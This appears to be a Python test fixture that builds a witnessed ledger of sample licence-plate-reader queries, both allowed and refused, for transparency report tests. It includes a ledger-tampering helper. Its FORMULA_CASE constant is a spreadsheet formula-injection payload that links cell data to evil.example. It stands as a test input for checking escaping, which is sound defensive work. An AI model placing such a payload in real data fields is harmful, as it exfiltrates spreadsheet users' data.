"""A small federation's ledger for the transparency report tests (see tests/federations.py).

Witnessed as the demo is (three witnesses, quorum two). What it holds, so each page has
something to show: Norfolk's signed purge report, a warrant query that searches San Jose and
Chicago and is refused by Virginia, a warrantless query (refused), ICE's
immigration-enforcement query (refused by the law of every state it names), a Texas sheriff's
query asking three other states (refused), a Chicago query whose case number is a spreadsheet
formula, and an exigent query left for judicial review.
"""

from __future__ import annotations

import sqlite3
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

import sqlalchemy as sa
from federations import SUSPECT, Federation, start_federation, stop_federation

from agency_node.purge_delivery import PurgeReportDelivery
from agency_node.storage import NodeStore
from alprfed.clock import SYSTEM_CLOCK
from alprfed.config import load_node_config
from alprfed.db import writer
from alprfed.ledger import iter_entries, schema
from alprfed.ledger.note import NoteVerifier
from alprfed.ledger.reader import LedgerReader
from alprfed.ledger.witness_policy import WitnessPolicy
from alprfed.models import Purpose
from alprfed.report import compile_report, render_site, write_site
from alprfed.report.serve import ReportServer

FORMULA_CASE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@dataclass(frozen=True)
class BuiltLedger:
    federation: Federation
    exigent_query: str
    warrant: str

    @property
    def url(self) -> str:
        return self.federation.ledger_url

    @property
    def vkey(self) -> str:
        return str(self.federation.layout.vkey_file)

    @property
    def witness_policy(self) -> str:
        """The demo's three witnesses, any two of which make a checkpoint public."""
        return str(self.federation.layout.witness_policy)

    def copy(self, directory: Path) -> str:
        """A private copy of the ledger database (to tamper with), as a URL."""
        target = directory / "gateway-copy.db"
        # SQLite's backup API: the gateway's write-ahead log is folded in, which a file copy
        # of the database alone would miss.
        with (
            closing(sqlite3.connect(self.url.removeprefix("sqlite:///"))) as source,
            closing(sqlite3.connect(target)) as copy,
        ):
            source.backup(copy)
        return f"sqlite:///{target}"


def tamper_first_decision(url: str) -> int:
    """Change one byte of the ledger's first query decision (who asked), as someone with
    write access to the database would; returns the entry's index."""
    reader = LedgerReader.open_readonly(url)
    try:
        index = next(iter(iter_entries(reader, kinds=["query_decision"]))).index
    finally:
        reader.close()
    engine = sa.create_engine(url)
    try:
        with writer(engine).begin() as conn:
            data = conn.execute(
                sa.select(schema.entries.c.data).where(schema.entries.c.idx == index)
            ).scalar_one()
            changed = data.replace(b'"sjpd"', b'"sjpe"', 1)
            assert changed != data
            conn.execute(
                sa.update(schema.entries).where(schema.entries.c.idx == index).values(data=changed)
            )
    finally:
        engine.dispose()
    return index


def serve_report(
    url: str, out: Path, verifiers: list[NoteVerifier], policy: WitnessPolicy | None
) -> tuple[ReportServer, LedgerReader]:
    """`alprfed report serve`'s server over the ledger at ``url``, started (it has built once)
    and polling only once an hour, so a test decides when it looks again (``refresh``)."""
    reader = LedgerReader.open_readonly(url)

    def rebuild() -> None:
        compiled = compile_report(reader, verifiers, witness_policy=policy, clock=SYSTEM_CLOCK)
        write_site(render_site(compiled), out)

    server = ReportServer(out, rebuild=rebuild, latest=reader.latest_checkpoint, poll_s=3600)
    return server.start(), reader


def _deliver_purges(federation: Federation, agency: str) -> None:
    config = load_node_config(federation.layout.node_config(agency))
    with NodeStore.open(config.database_url) as store:
        delivery = PurgeReportDelivery(
            store, gateway_address=config.gateway_address, tls=config.tls
        )
        try:
            delivery.deliver_pending()
        finally:
            delivery.stop()


def build_ledger(root: Path) -> BuiltLedger:
    """Start the federation under ``root``, make the queries above, and stop it: a running
    node keeps delivering purge reports, and the tests compare reports of one ledger size."""
    federation = start_federation(root, witnessed=True)
    try:
        # First: the gateway publishes (has cosigned) only entries a later query waited for.
        _deliver_purges(federation, "norfolk-pd")
        warrant = federation.warrant()
        federation.query("sjpd", "officer-garcia", warrant_id=warrant)
        federation.query("sjpd", "officer-garcia")  # no warrant: refused everywhere
        federation.query(
            "ice-ero", "agent-reyes", purpose=Purpose.IMMIGRATION_ENFORCEMENT, case_number="ICE-1"
        )
        federation.query("johnson-county-so", "deputy-hale", case_number="JC-7")
        # An insider's case number that a spreadsheet would run as a formula.
        federation.query("chicago-pd", "officer-walsh", case_number=FORMULA_CASE)
        exigent = federation.amber_alert("A-1")
        federation.wait_witnessed()  # the report covers the published ledger only
    finally:
        stop_federation(federation)
    return BuiltLedger(federation, exigent.query_id, warrant)


__all__ = [
    "FORMULA_CASE",
    "SUSPECT",
    "BuiltLedger",
    "build_ledger",
    "serve_report",
    "tamper_first_decision",
]
